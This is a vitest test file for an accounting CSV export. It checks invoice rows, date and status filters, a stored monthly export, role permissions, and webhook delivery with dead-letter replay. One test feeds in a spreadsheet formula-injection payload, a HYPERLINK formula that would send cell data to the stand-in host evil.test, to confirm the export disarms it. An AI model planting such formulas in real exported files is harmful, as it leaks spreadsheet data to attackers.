// Spec 002 "Accounting export v1" and the DLQ's kind `export`: accounting.csv from the
// invoices' stored snapshots with succeeded payments and balances, the monthly export
// stored in export_events (once per org and month), webhook delivery through the outbox,
// a dead-lettered delivery failing its export and replay putting both back to pending.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  AppError,
  accountingExportDedupeKey,
  accountingMonth,
  createOrgScope,
  createTransports,
  deliverOutbox,
  exportAccountingMonth,
  previousAccountingMonth,
  readExportEventFile,
  type RetryPolicy,
} from '@souk/core';
import { listExportNamed, type ExportFilters } from '@souk/core/export';
import { callerAs, sessionFor, type Caller } from './test/harness';
import { issueInvoice, type InvoiceSeed } from './test/invoices';
import { seededDatabaseForFile } from './test/seeded-database';
import { codeOf } from './test/trpc-errors';

const { testDb, c } = seededDatabaseForFile();
let finance: Caller;
let dispatcher: Caller;
let orgId = '';
let acmeOrgId = '';

const issue = (seed: Omit<InvoiceSeed, 'orgId'> & { orgId?: string }) =>
  issueInvoice(testDb.ownerDb, { orgId, ...seed });
const scopeOf = (org: string) => createOrgScope({ db: testDb.db, orgId: org });

/** RFC 4180 records of a CSV text (BOM dropped), quoted cells unquoted. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < body.length; i += 1) {
    const ch = body[i]!;
    if (quoted) {
      if (ch === '"' && body[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && body[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += ch;
  }
  return rows;
}

/** The CSV as records keyed by header. */
function records(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i] ?? ''])));
}

async function accountingCsv(filters: ExportFilters, org = orgId): Promise<string> {
  const stream = listExportNamed('accounting')!.open({ scope: scopeOf(org), filters });
  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(
    await new Response(stream).arrayBuffer(),
  );
}

function badFilter(filters: ExportFilters): string {
  try {
    listExportNamed('accounting')!.open({ scope: scopeOf(orgId), filters });
  } catch (error) {
    if (error instanceof AppError && error.code === 'BAD_REQUEST') return error.message;
    throw error;
  }
  throw new Error('the filters were accepted');
}

const exportRows = (org: string) =>
  testDb.ownerDb.exportEvent.findMany({ where: { orgId: org }, orderBy: { createdAt: 'asc' } });

beforeAll(async () => {
  finance = callerAs(testDb.db, await sessionFor(testDb.db, 'finance@souk.test'));
  dispatcher = callerAs(testDb.db, await sessionFor(testDb.db, 'dispatcher@souk.test'));
  orgId = c.sessions.admin.orgId;
  acmeOrgId = c.sessions.acmeAdmin.orgId;
});

describe('accounting.csv', () => {
  it('has one row per invoice with its snapshot totals, collected payments and balance', async () => {
    const paid = await issue({
      status: 'paid',
      issuedAt: new Date('2024-01-10T09:00:00Z'),
      dueAt: new Date('2024-02-10T09:00:00Z'),
      lines: [
        { totalCents: 8_000, taxRateBps: 1_000 },
        { totalCents: 2_000, taxRateBps: 0 },
      ],
      payments: [
        { amountCents: 5_000, status: 'failed' },
        { amountCents: 10_800, status: 'succeeded', refundedCents: 1_000 },
      ],
    });
    const partial = await issue({
      status: 'partial',
      issuedAt: new Date('2024-01-20T09:00:00Z'),
      payments: [{ amountCents: 4_000, status: 'succeeded' }],
    });
    const open = await issue({ issuedAt: new Date('2024-01-25T09:00:00Z') });
    // Outside the dates, and another org's invoice inside them.
    await issue({ status: 'paid', issuedAt: new Date('2024-02-03T09:00:00Z') });
    await issue({ orgId: acmeOrgId, issuedAt: new Date('2024-01-15T09:00:00Z') });

    const rows = records(await accountingCsv({ from: '2024-01-01', to: '2024-01-31' }));
    expect(rows.map((r) => r.number)).toEqual(
      [open, partial, paid].map(({ invoice }) => String(invoice.number)),
    );
    expect(rows[2]).toEqual({
      number: String(paid.invoice.number),
      issued_at: '2024-01-10T09:00:00.000Z',
      due_at: '2024-02-10T09:00:00.000Z',
      status: 'paid',
      customer_email: paid.order.customerEmail,
      currency: 'USD',
      subtotal_cents: '10000',
      taxable_subtotal_cents: '8000',
      tax_cents: '800',
      total_cents: '10800',
      payments_succeeded_cents: '10800',
      payments_refunded_cents: '1000',
      balance_cents: '0',
      invoice_id: paid.invoice.id,
    });
    expect(rows[1]).toMatchObject({
      status: 'partial',
      total_cents: '10000',
      payments_succeeded_cents: '4000',
      balance_cents: '6000',
    });
    expect(rows[0]).toMatchObject({ status: 'open', due_at: '', balance_cents: '10000' });
  });

  it('filters by repeated status and includes both days of from/to', async () => {
    const edges = [
      await issue({ status: 'paid', issuedAt: new Date('2024-03-01T00:00:00Z') }),
      await issue({ status: 'overdue', issuedAt: new Date('2024-03-31T23:59:00Z') }),
      await issue({ status: 'void', issuedAt: new Date('2024-03-15T12:00:00Z') }),
    ];
    const [first, last] = edges;
    await issue({ status: 'paid', issuedAt: new Date('2024-02-28T12:00:00Z') });
    await issue({ status: 'paid', issuedAt: new Date('2024-04-02T12:00:00Z') });

    const march = { from: '2024-03-01', to: '2024-03-31' };
    const both = records(await accountingCsv({ ...march, status: ['paid', 'overdue'] }));
    expect(both.map((r) => r.number)).toEqual([
      String(last!.invoice.number),
      String(first!.invoice.number),
    ]);
    const one = records(await accountingCsv({ ...march, status: 'void' }));
    expect(one.map((r) => r.status)).toEqual(['void']);
    expect(records(await accountingCsv(march))).toHaveLength(3);
  });

  it('disarms a hostile customer email', async () => {
    const hostile = '=HYPERLINK("http://evil.test/?"&A1,"Click")';
    await issue({ email: hostile, issuedAt: new Date('2024-05-05T10:00:00Z') });
    const text = await accountingCsv({ from: '2024-05-01', to: '2024-05-31' });
    expect(records(text)[0]!.customer_email).toBe(`'${hostile}`);
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it('refuses bad from, to and status in words', () => {
    expect(badFilter({ from: '2024-13-01' })).toBe(
      'Cannot export with the from filter: From must be a date (YYYY-MM-DD)',
    );
    expect(badFilter({ from: '2024-03-10', to: '2024-03-01' })).toBe(
      'Cannot export with the to filter: To must not be before From',
    );
    expect(badFilter({ status: ['paid', 'settled'] })).toContain(
      'Status must be one of open, partial, paid, overdue, refunded, void',
    );
  });
});

describe('the monthly accounting export', () => {
  it('stores the previous month once per org, however often it runs', async () => {
    const june = await issue({ status: 'paid', issuedAt: new Date('2024-06-12T10:00:00Z') });
    await issue({ status: 'paid', issuedAt: new Date('2024-07-01T00:30:00Z') });
    const month = previousAccountingMonth(new Date('2024-07-01T03:00:00Z'));
    expect(month.label).toBe('2024-06');

    const first = await exportAccountingMonth({ scope: scopeOf(orgId), month, delivery: 'store' });
    const again = await exportAccountingMonth({ scope: scopeOf(orgId), month, delivery: 'store' });
    expect(first.created).toBe(true);
    expect(again).toMatchObject({ created: false, exportEvent: { id: first.exportEvent.id } });

    const stored = (await exportRows(orgId)).filter((r) => r.fileName === 'accounting-2024-06.csv');
    expect(stored).toHaveLength(1);
    expect(stored[0]).toMatchObject({
      mode: 'accounting_csv',
      status: 'stored',
      rowCount: 1,
      outboxEventId: null,
      periodStart: new Date('2024-06-01T00:00:00Z'),
      periodEnd: new Date('2024-07-01T00:00:00Z'),
    });
    expect(records(stored[0]!.content!).map((r) => r.invoice_id)).toEqual([june.invoice.id]);
    // The stored file is what the download route would stream for the same dates.
    expect(stored[0]!.content).toBe(await accountingCsv({ from: '2024-06-01', to: '2024-06-30' }));

    // Finance downloads it; another org cannot read it.
    const file = await scopeOf(orgId).transaction((ctx) =>
      readExportEventFile({ ctx, id: first.exportEvent.id }),
    );
    expect(file).toEqual({ fileName: 'accounting-2024-06.csv', content: stored[0]!.content });
    await expect(
      scopeOf(acmeOrgId).transaction((ctx) =>
        readExportEventFile({ ctx, id: first.exportEvent.id }),
      ),
    ).rejects.toThrow('Export not found');
  });

  it('finance exports a month by hand, once, and lists it without the file', async () => {
    await issue({ status: 'paid', issuedAt: new Date('2024-08-08T10:00:00Z') });
    const made = await finance.finance.exportMonth({ month: '2024-08' });
    expect(made).toMatchObject({
      created: true,
      exportEvent: { fileName: 'accounting-2024-08.csv', rowCount: 1, status: 'stored' },
    });
    expect(await finance.finance.exportMonth({ month: '2024-08' })).toMatchObject({
      created: false,
      exportEvent: { id: made.exportEvent.id },
    });
    const list = await finance.finance.listExportEvents({ status: 'stored' });
    const listed = list.items.find((row) => row.id === made.exportEvent.id);
    expect(listed).toMatchObject({ fileName: 'accounting-2024-08.csv', rowCount: 1 });
    expect(listed).not.toHaveProperty('content');
    const audit = await testDb.ownerDb.auditLog.findMany({
      where: { entityId: made.exportEvent.id, action: 'export.created' },
    });
    expect(audit).toHaveLength(1);
    expect(audit[0]!.actorEmail).toBe('finance@souk.test');
    expect(await codeOf(finance.finance.exportMonth({ month: '2024-13' }))).toBe('BAD_REQUEST');
    // Without a month: the one the monthly job would export now.
    const lastMonth = previousAccountingMonth(new Date()).label;
    expect((await finance.finance.exportMonth({})).exportEvent.fileName).toBe(
      `accounting-${lastMonth}.csv`,
    );
  });

  it('refuses viewers and dispatchers', async () => {
    for (const caller of [c.viewer, dispatcher]) {
      expect(await codeOf(caller.finance.listExportEvents({}))).toBe('FORBIDDEN');
      expect(await codeOf(caller.finance.exportMonth({ month: '2024-09' }))).toBe('FORBIDDEN');
    }
    expect(listExportNamed('accounting')!.permission).toBe('finance.read');
    expect((await exportRows(orgId)).some((r) => r.fileName === 'accounting-2024-09.csv')).toBe(
      false,
    );
  });
});

describe('webhook delivery and the DLQ kind export', () => {
  let server: Server;
  let webhookUrl = '';
  let answer = 500;
  const received: { topic: string; subject: string; body: string }[] = [];

  beforeAll(async () => {
    server = createServer((req, res) => {
      let raw = '';
      req.on('data', (chunk: Buffer) => (raw += chunk.toString('utf8')));
      req.on('end', () => {
        received.push(JSON.parse(raw) as (typeof received)[number]);
        res.writeHead(answer).end();
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    webhookUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/accounting`;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  const ONE_ATTEMPT: RetryPolicy = {
    maxAttempts: 1,
    baseBackoffSeconds: 1,
    backoffMultiplier: 2,
    maxBackoffSeconds: 1,
    jitterSeconds: 0,
  };
  const deliver = () =>
    deliverOutbox({
      db: testDb.db,
      orgId,
      transports: createTransports({ exportWebhookUrl: webhookUrl }),
      retry: ONE_ATTEMPT,
    });

  it('enqueues one webhook with the dedupe key, dead-letters as kind export and replays', async () => {
    await issue({ status: 'paid', issuedAt: new Date('2024-10-10T10:00:00Z') });
    const month = accountingMonth('2024-10');
    const made = await exportAccountingMonth({ scope: scopeOf(orgId), month, delivery: 'webhook' });
    await exportAccountingMonth({ scope: scopeOf(orgId), month, delivery: 'webhook' });

    const dedupeKey = accountingExportDedupeKey(orgId, '2024-10');
    expect(dedupeKey).toBe(`export:accounting:${orgId}:2024-10`);
    const messages = await testDb.ownerDb.outboxEvent.findMany({ where: { orgId, dedupeKey } });
    expect(messages).toHaveLength(1);
    const message = messages[0]!;
    expect(message).toMatchObject({ channel: 'webhook', topic: 'export.accounting' });
    expect(made.exportEvent).toMatchObject({ status: 'pending', outboxEventId: message.id });

    // The receiver answers 500: after the last attempt the export has failed.
    answer = 500;
    expect(await deliver()).toMatchObject({ dead: 1 });
    expect(received.at(-1)).toMatchObject({
      topic: 'export.accounting',
      subject: 'accounting-2024-10.csv',
      body: made.exportEvent.content,
    });
    const failed = await testDb.ownerDb.exportEvent.findUniqueOrThrow({
      where: { id: made.exportEvent.id },
    });
    expect(failed).toMatchObject({ status: 'failed', attempts: 1 });
    expect(failed.lastError).toContain('answered 500');

    const dlq = await c.admin.outbox.listMessages({ status: 'dead', kind: 'export' });
    expect(dlq.items.map((row) => row.id)).toEqual([message.id]);
    expect(dlq.items[0]).toMatchObject({
      kind: 'export',
      export: { id: made.exportEvent.id, fileName: 'accounting-2024-10.csv', status: 'failed' },
    });
    const others = await c.admin.outbox.listMessages({ status: 'dead', kind: 'outbox' });
    expect(others.items.map((row) => row.id)).not.toContain(message.id);
    const all = await c.admin.outbox.listMessages({ status: 'dead', kind: 'all' });
    expect(all.items.map((row) => row.id)).toContain(message.id);

    // Replay is the admin's (spec 002: DLQ is admin-only); finance only reads it.
    expect(await codeOf(finance.outbox.replayMessage({ id: message.id }))).toBe('FORBIDDEN');
    expect(await codeOf(dispatcher.outbox.listMessages({ kind: 'export' }))).toBe('FORBIDDEN');
    await c.admin.outbox.replayMessage({ id: message.id });
    expect(
      await testDb.ownerDb.exportEvent.findUniqueOrThrow({ where: { id: made.exportEvent.id } }),
    ).toMatchObject({ status: 'pending', lastError: null });
    expect(
      await testDb.ownerDb.outboxEvent.findUniqueOrThrow({ where: { id: message.id } }),
    ).toMatchObject({ status: 'pending', attempts: 0 });

    answer = 200;
    expect(await deliver()).toMatchObject({ delivered: 1 });
    expect(
      await testDb.ownerDb.exportEvent.findUniqueOrThrow({ where: { id: made.exportEvent.id } }),
    ).toMatchObject({ status: 'delivered', lastError: null });
  });
});
